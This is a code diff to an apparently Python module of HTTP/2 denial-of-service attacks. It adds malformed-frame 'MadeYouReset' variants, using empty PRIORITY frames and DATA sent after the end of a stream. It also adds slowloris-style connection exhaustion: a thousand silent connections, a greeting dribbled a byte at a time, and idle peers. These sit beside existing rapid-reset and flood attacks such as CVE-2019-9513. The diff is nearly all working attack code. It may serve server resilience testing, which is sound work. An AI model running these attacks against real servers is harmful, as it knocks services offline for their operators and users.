@@ -28,12 +28,14 @@ CHUNK = 64 * 1024
 
 @dataclass
 class Attack:
-    """Bytes to say once, bytes to repeat (none: wait), connections at a time, and whether answers are read."""
+    """Bytes to say once, bytes to repeat (none: wait), connections at a time, whether answers are read, and the seconds
+    between two bytes of one that is in no hurry."""
 
     once: bytes
     again: bytes = b""
     connections: int = 4
     reads: bool = True
+    pause: float = 0.0
 
 
 def streams() -> range:
@@ -57,6 +59,23 @@ def made_you_reset() -> Attack:
     # More window than there can be, an error of the stream.
     too_much = [WindowUpdateFrame(s, window_increment=2**31 - 1).serialize() for s in streams()]
     wrong = [opening(encoder, s, "Slow") + more for s, more in zip(streams(), too_much)]
+    return Attack(greeting() + b"".join(wrong))
+
+
+def made_you_reset_by_priority() -> Attack:
+    """The same by PRIORITY frames that are no such thing, an error of the stream by their length."""
+    encoder = Encoder()
+    # Type 2, no payload instead of five bytes.
+    empty = [b"\0\0\0\2\0" + s.to_bytes(4, "big") for s in streams()]
+    wrong = [opening(encoder, s, "Slow") + more for s, more in zip(streams(), empty)]
+    return Attack(greeting() + b"".join(wrong))
+
+
+def made_you_reset_by_data() -> Attack:
+    """The same by DATA behind the end of the call."""
+    encoder = Encoder()
+    ends = ("END_HEADERS", "END_STREAM")
+    wrong = [opening(encoder, s, "Slow", flags=ends) + DataFrame(s, b"x").serialize() for s in streams()]
     return Attack(greeting() + b"".join(wrong))
 
 
@@ -93,6 +112,21 @@ def priority_flood() -> Attack:
     """PRIORITY of streams that do not exist (CVE-2019-9513)."""
     again = PriorityFrame(1, depends_on=3, stream_weight=7).serialize()
     return Attack(greeting(), repeated(again))
+
+
+def silent_peers() -> Attack:
+    """Connects, a thousand times, and says nothing."""
+    return Attack(b"", connections=1000)
+
+
+def dribblers() -> Attack:
+    """Says its greeting a byte at a time, as slowly as it likes."""
+    return Attack(greeting(), connections=200, pause=0.2)
+
+
+def idlers() -> Attack:
+    """Greets, and then makes no call and acknowledges nothing."""
+    return Attack(greeting(), connections=400)
 
 
 def deaf_peers() -> Attack:
@@ -152,12 +186,17 @@ ALL: dict[str, Callable[[], Attack]] = {
     for make in (
         rapid_reset,
         made_you_reset,
+        made_you_reset_by_priority,
+        made_you_reset_by_data,
         continuation_flood,
         empty_data_flood,
         ping_flood,
         settings_flood,
         window_flood,
         priority_flood,
+        silent_peers,
+        dribblers,
+        idlers,
         deaf_peers,
         windowless_peers,
         hoarders,
